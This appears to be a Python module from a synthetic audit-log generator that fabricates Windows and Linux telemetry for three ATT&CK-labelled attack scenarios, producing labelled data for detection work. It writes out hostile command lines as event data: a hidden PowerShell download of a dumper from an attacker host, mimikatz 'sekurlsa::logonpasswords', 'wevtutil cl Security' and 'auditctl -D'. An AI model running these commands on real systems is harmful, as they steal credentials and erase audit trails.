"""Host attacks: LSASS credential dumping, a cleared Security log, audit rules deleted."""

from __future__ import annotations

from typing import Any

from auditlake.synth.activity import Ctx, spread
from auditlake.synth.names import ATTACKER_ORIGINS
from auditlake.synth.org import AD_DOMAIN, Host, Person
from auditlake.synth.scenarios.model import Outcome, Step
from auditlake.synth.sources import auditd, windows
from auditlake.synth.sources.windows_catalog import POWERSHELL, Proc

WINDOWS = windows.NAME
Records = tuple[tuple[int, Any], ...]


def _admin_laptop(ctx: Ctx) -> tuple[Person, Host]:
    """A Windows laptop whose owner has local admin rights (or any Windows laptop)."""
    laptops = {h.name: h for h in ctx.org.windows_hosts if h.owner}
    people = [p for p in ctx.org.people if p.laptop in laptops]
    person = ctx.rng.choice([p for p in people if p.admin] or people)
    return person, laptops[person.laptop]


def lsass_dump(ctx: Ctx, start: int, end: int) -> Outcome:
    """A downloaded credential dumper run elevated opens LSASS with 0x1010 (mimikatz-style)."""
    del end
    person, host = _admin_laptop(ctx)
    tool = f"C:\\Users\\{person.sam}\\AppData\\Local\\Temp\\mk.exe"
    attacker = ATTACKER_ORIGINS[ctx.rng.randrange(len(ATTACKER_ORIGINS))][0]
    download = Proc(POWERSHELL, f'"{POWERSHELL}" -nop -w hidden -c "iwr http://{attacker}/u/mk.exe -OutFile $env:TEMP\\mk.exe"',
                    "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", "Windows PowerShell",
                    "Microsoft® Windows® Operating System", "Microsoft Corporation")
    t = spread(ctx, start, 6, 6.0)
    user = f"{AD_DOMAIN}\\{person.sam}"
    drop: list[tuple[int, Any]] = list(windows.process_create(ctx, t[0], host, download, person))
    drop.append((t[1], windows.event(ctx, t[1], host, "sysmon11", {
        "RuleName": "-", "UtcTime": ctx.stamps.space(t[1], 3), "ProcessGuid": windows.guid(ctx), "ProcessId": 7312,
        "Image": POWERSHELL, "TargetFilename": tool, "CreationUtcTime": ctx.stamps.space(t[1], 3), "User": user})))
    dumper = Proc(tool, f'"{tool}" "privilege::debug" "sekurlsa::logonpasswords" exit', POWERSHELL, f'"{POWERSHELL}"',
                  "mimikatz for Windows", "mimikatz", "gentilkiwi (Benjamin DELPY)", "High")
    run = windows.process_create(ctx, t[3], host, dumper, person)
    access = windows.event(ctx, t[4], host, "sysmon10", {
        "RuleName": "-", "UtcTime": ctx.stamps.space(t[4], 3), "SourceProcessGUID": windows.guid(ctx), "SourceProcessId": 9184,
        "SourceThreadId": 9188, "SourceImage": tool, "TargetProcessGUID": windows.guid(ctx), "TargetProcessId": 788,
        "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9f4d4|C:\\Windows\\System32\\KERNELBASE.dll+2a1f3|" + tool + "+7c0e2",
        "SourceUser": user, "TargetUser": "NT AUTHORITY\\SYSTEM"})
    return Outcome((
        Step("credential dumper downloaded", "T1105", WINDOWS, user, tuple(drop)),
        Step("credential dumper executed elevated", "T1003.001", WINDOWS, user, tuple(run)),
        Step("LSASS memory opened (GrantedAccess 0x1010)", "T1003.001", WINDOWS, user, ((t[4], access),)),
    ))


def windows_log_cleared(ctx: Ctx, start: int, end: int) -> Outcome:
    """An administrator account clears the Security log on the file server with wevtutil."""
    del end
    person = ctx.rng.choice([p for p in ctx.org.people if p.admin] or list(ctx.org.people))
    server = next(h for h in ctx.org.windows_hosts if h.name == "FS01")
    wevtutil = Proc("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security", "C:\\Windows\\System32\\cmd.exe",
                    '"C:\\Windows\\System32\\cmd.exe" ', "Eventing Command Line Utility",
                    "Microsoft® Windows® Operating System", "Microsoft Corporation", "High")
    run = windows.process_create(ctx, start, server, wevtutil, person)
    t = start + 400_000
    cleared = windows.event(ctx, t, server, "1102", {"LogFileCleared": {
        "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
        "SubjectUserSid": person.windows_sid, "SubjectUserName": person.sam, "SubjectDomainName": AD_DOMAIN,
        "SubjectLogonId": f"0x{(person.index * 7919) & 0xFFFFFF:x}"}}, user_data=True)
    user = f"{AD_DOMAIN}\\{person.sam}"
    return Outcome((
        Step("wevtutil cl Security", "T1070.001", WINDOWS, user, tuple(run)),
        Step("Security log cleared (1102)", "T1070.001", WINDOWS, user, ((t, cleared),)),
    ))


def audit_rules_deleted(ctx: Ctx, start: int, end: int) -> Outcome:
    """An SRE account on a database server uses sudo to delete every audit rule."""
    del end
    person = ctx.rng.choice(ctx.org.users_of("linux") or ctx.org.people)
    host = next(h for h in ctx.org.linux_hosts if h.kind == "db")
    auid, acct, ses = person.unix_uid, person.unix_login, ctx.rng.randrange(100, 90000)
    sudo = ((start, auditd.user_cmd(host, start, (auid, acct, ses), "auditctl -D")),)
    t = start + 3000
    deleted: list[tuple[int, Any]] = [(t, auditd.execve(host, t, ["auditctl", "-D"], (auid, 0, ses, f"/home/{acct}"), "/usr/sbin/auditctl"))]
    for i, key in enumerate(("exec", "identity", "sudoers")):
        at = t + 1000 * (i + 1)
        body = f"auid={auid} ses={ses} subj=unconfined op=remove_rule key=\"{key}\" list=4 res=1"
        deleted.append((at, auditd.audit_event(host.name, at, [("CONFIG_CHANGE", body)])))
    # audit.log names a user only by login uid (`auid=`), so that is the actor its events show
    return Outcome((
        Step("sudo auditctl -D", "T1548.003", auditd.NAME, str(auid), sudo),
        Step("audit rules deleted", "T1562.012", auditd.NAME, str(auid), tuple(deleted)),
    ))
